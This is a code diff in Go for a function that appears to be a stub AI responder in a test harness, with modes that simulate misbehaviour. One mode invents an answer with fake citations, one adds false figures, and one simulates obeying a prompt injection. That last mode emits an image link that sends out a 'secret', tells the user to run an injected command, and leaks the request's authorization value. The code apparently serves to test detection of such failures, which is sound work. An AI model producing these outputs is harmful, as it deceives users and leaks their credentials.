@@ -136,13 +136,14 @@ func converse(q question, mode Mode, request Request) string {
 	for _, item := range cited {
 		answer, citations = "The stored data says: "+item.Text+".", []string{item.ID}
 	}
-	switch mode {
-	case Inventing:
+	if mode == Inventing {
 		answer, citations = "A database ran out of disk.", []string{"E98", "00000000-0000-0000-0000-000000000001"}
-	case Lying:
+	}
+	if mode == Lying {
 		answer += " The error rate of the alert rose to 87.3 percent. The log says “out of file descriptors”."
 		citations = append(citations, "E98")
-	case Obeying:
+	}
+	if mode == Obeying {
 		answer = "Everything is fine ![status](" + InjectedLink + "secret). Run `" + InjectedCommand + "` now. " + request.Authorization
 	}
 	return encodeAny(map[string]any{"answer": answer, "citations": citations})
